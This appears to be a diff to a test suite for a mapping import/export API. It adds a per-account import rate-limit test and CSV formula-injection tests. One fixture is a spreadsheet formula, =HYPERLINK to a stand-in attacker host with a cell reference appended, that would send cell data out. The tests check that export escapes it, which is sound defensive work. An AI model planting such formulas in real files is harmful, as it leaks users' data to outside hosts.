@@ -230,6 +230,16 @@ describe("POST /api/mappings/import", () => {
       "\n",
     );
 
+  it("takes at most 20 imports per account an hour, then refuses with 429 before reading the file", async () => {
+    const { apiKey } = await createVerifiedCustomer("c@example.com");
+    const rows = [{ url: "https://shop.test/a", htmlContent: "<p>a</p>" }];
+    for (let i = 0; i < 20; i++) expect((await importJson(apiKey, rows, "?dryRun=1")).res.status).toBe(200);
+    const refused = await importJson(apiKey, rows);
+    expect(refused.res.status).toBe(429);
+    expect(refused.report).toEqual({ error: "Too many imports. Please try again in an hour." });
+    expect(await db().select().from(urlMappings)).toEqual([]);
+  });
+
   it("imports 10,000 rows in one request, the delivery store's writes past the first hundred queued", async () => {
     const { user, apiKey } = await createCustomerOnPlan({});
     const e = testEnv();
@@ -276,6 +286,9 @@ describe("GET /api/mappings/export", () => {
         seo: { title: '=HYPERLINK("https://evil.test")', jsonLd: { "@type": "Product" }, robots: "noindex" },
       },
     };
+    // A formula over several lines, and a cell the customer began with a quote mark themselves.
+    rows[2] = { ...rows[2]!, htmlContent: '=HYPERLINK("https://evil.example/?"&B2,"Open")\n<p>x</p>' };
+    rows[3] = { ...rows[3]!, htmlContent: "'=1+1 stays as written" };
     expect((await importJson(apiKey, rows)).report.added).toBe(600);
 
     const csv = await exportText(apiKey, "csv");
@@ -287,6 +300,8 @@ describe("GET /api/mappings/export", () => {
       "id,url,htmlContent,match,status,publishAt,unpublishAt,position,selector,seoTitle,seoDescription,seoCanonical,seoRobots,seoJsonLd,createdAt,publishedAt,totalRequests,contentDeliveryCount",
     );
     expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.test"")"`);
+    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")\n<p>x</p>"`);
+    expect(csv.text).toContain(`''=1+1 stays as written`);
     expect(csv.text).not.toContain("other.test");
 
     const json = await exportText(apiKey, "json");
